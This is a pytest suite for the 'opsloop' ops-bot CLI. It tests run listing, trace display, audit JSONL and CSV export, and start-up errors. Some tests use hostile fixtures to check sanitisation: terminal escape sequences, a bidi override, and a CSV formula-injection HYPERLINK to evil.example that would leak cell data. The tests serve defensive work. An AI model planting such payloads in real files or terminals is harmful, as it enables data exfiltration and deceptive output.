"""The `opsloop` command on a real database: runs, show, audit, and start-up errors."""

from __future__ import annotations

import csv
import io
import json
import os

import pytest

from bot.cli import main
from bot.store import Ledger
from bot.types import StopReason
from handlers.approvals import count_approval


@pytest.fixture
def db(tmp_path, monkeypatch):
    path = tmp_path / "opsloop.db"
    monkeypatch.setenv("OPSLOOP_DB", str(path))
    monkeypatch.chdir(tmp_path)  # no ./opsloop.toml of the developer's is found
    for name in ("SLACK_BOT_TOKEN", "SLACK_APP_TOKEN", "SLACK_SIGNING_SECRET", "ANTHROPIC_API_KEY", "OPSLOOP_CONFIG"):
        monkeypatch.delenv(name, raising=False)
    ledger = Ledger(path)
    run = ledger.create_run(
        channel="C1",
        thread_ts="1.0",
        requester="U1",
        task="web-03 is out of disk",
        model="claude-sonnet-4-5",
        history=[{"role": "user", "content": [{"type": "text", "text": "web-03 is out of disk"}]}],
    )
    ledger.add_step(run.id, "tool", {"tool": "check_disk", "args": {"host": "web-03"}})
    a = ledger.create_approval(
        run_id=run.id,
        tool_use_id="toolu_1",
        tool="clean_logs",
        category="destructive",
        args={"path": "/var/log"},
        preview="would delete 212 files",
        requester="U1",
        expires_at=2e9,
    )
    count_approval(ledger, a.id, "U2", decided_name="bob", now=1.8e9)
    ledger.save_tool_result(
        run.id,
        tool_use_id="toolu_1",
        tool="clean_logs",
        args={"path": "/var/log"},
        content="deleted 212 files",
        is_error=False,
        confirmed_by="U2",
    )
    ledger.finish_run(run.id, stop_reason=StopReason.COMPLETED, stop_detail="", output="freed 19.8 GB")
    ledger.close()
    return run.id


def test_runs_lists_the_run(db, capsys):
    assert main(["runs"]) == 0
    out = capsys.readouterr().out
    assert db in out and "completed" in out and "web-03 is out of disk" in out


def test_show_prints_the_step_trace(db, capsys):
    assert main(["show", db]) == 0
    out = capsys.readouterr().out
    assert '"tool": "check_disk"' in out and "freed 19.8 GB" in out


def test_show_unknown_run_is_one_clear_line(db, capsys):
    assert main(["show", "run_nope"]) == 2
    assert capsys.readouterr().err.strip().startswith("opsloop: no run 'run_nope'")


def test_audit_jsonl_has_who_what_and_result(db, capsys):
    assert main(["audit"]) == 0
    [row] = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert {k: row[k] for k in ("tool", "state", "decided_by", "decided_name", "args", "preview", "result")} == {
        "tool": "clean_logs",
        "state": "approved",
        "decided_by": "U2",
        "decided_name": "bob",
        "args": {"path": "/var/log"},
        "preview": "would delete 212 files",
        "result": "deleted 212 files",
    }


def test_audit_csv(db, capsys):
    assert main(["audit", "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert (row["tool"], row["decided_by"], json.loads(row["args"])) == ("clean_logs", "U2", {"path": "/var/log"})


def test_run_without_tokens_exits_non_zero_with_clear_lines(db, capsys):
    assert main(["run"]) == 2
    assert capsys.readouterr().err.splitlines()[1:] == [
        "opsloop: SLACK_BOT_TOKEN is not set (the bot token, xoxb-…)",
        "opsloop: set SLACK_APP_TOKEN (Socket Mode) or SLACK_SIGNING_SECRET (HTTP mode)",
        "opsloop: ANTHROPIC_API_KEY is not set",
    ]


def test_bad_config_exits_non_zero_with_its_location(db, tmp_path, capsys):
    bad = tmp_path / "bad.toml"
    bad.write_text("[limits]\nmax_iterations = 'x'\n")
    assert main(["runs", "--config", str(bad)]) == 2
    assert capsys.readouterr().err.strip() == "opsloop: limits.max_iterations: expected an integer, got a string"


def test_show_writes_out_terminal_escapes_and_bidi_overrides_instead_of_printing_them(tmp_path, monkeypatch, capsys):
    path = tmp_path / "hostile.db"
    monkeypatch.setenv("OPSLOOP_DB", str(path))
    ledger = Ledger(path)
    run = ledger.create_run(
        channel="C1",
        thread_ts="1.0",
        requester="U1",
        task="disk \x1b[2J\x1b[31mfull",
        model="claude-sonnet-5-5",
        history=[{"role": "user", "content": [{"type": "text", "text": "x"}]}],
    )
    ledger.finish_run(run.id, stop_reason=StopReason.COMPLETED, stop_detail="", output="deleted /var/log/\u202egol.txt")
    ledger.close()
    assert main(["show", run.id]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out
    assert "task: disk ⟨U+001B⟩[2J⟨U+001B⟩[31mfull" in out
    assert "deleted /var/log/⟨U+202E⟩gol.txt" in out


def test_audit_feedback_exports_each_click(db, capsys):
    from bot.store import Ledger
    from bot.types import FeedbackValue

    ledger = Ledger(os.environ["OPSLOOP_DB"])
    ledger.record_feedback(
        click="U2:1.2:3", run_id=db, user="U2", value=FeedbackValue.POSITIVE, channel="C1", message_ts="1.2"
    )
    ledger.close()
    assert main(["audit", "--feedback"]) == 0
    [row] = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert {k: row[k] for k in ("run_id", "user", "value", "message_ts")} == {
        "run_id": db,
        "user": "U2",
        "value": "positive",
        "message_ts": "1.2",
    }
    assert main(["audit", "--feedback", "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert (row["user"], row["value"]) == ("U2", "positive")


def test_audit_csv_reveals_control_characters_and_keeps_formulas_as_text(tmp_path, monkeypatch, capsys):
    path = tmp_path / "hostile.db"
    monkeypatch.setenv("OPSLOOP_DB", str(path))
    ledger = Ledger(path)
    run = ledger.create_run(channel="C1", thread_ts="1.0", requester="U1", task="disk", model="claude-sonnet-5-5")
    a = ledger.create_approval(
        run_id=run.id,
        tool_use_id="toolu_1",
        tool="clean_logs",
        category="destructive",
        args={"path": "/var/log\x1b]0;pwned\x07"},
        requester="U1",
        expires_at=2e9,
        preview='=HYPERLINK("https://evil.example/?x="&A1,"open")',
    )
    count_approval(ledger, a.id, "U2", decided_name="@bob", now=1.8e9)
    ledger.save_tool_result(
        run.id,
        tool_use_id="toolu_1",
        tool="clean_logs",
        args={},
        is_error=False,
        content="-1+1\x1b[2J cleared",
        confirmed_by="U2",
    )
    ledger.close()
    assert main(["audit", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["preview"].startswith("'=HYPERLINK(") and row["decided_name"] == "'@bob"
    assert row["result"].startswith("'-1+1") and "⟨U+001B⟩" in row["result"]
    assert json.loads(row["args"]) == {"path": "/var/log\x1b]0;pwned\x07"}  # JSON cells carry escapes, not bytes
    assert (row["tool"], row["decided_by"]) == ("clean_logs", "U2")
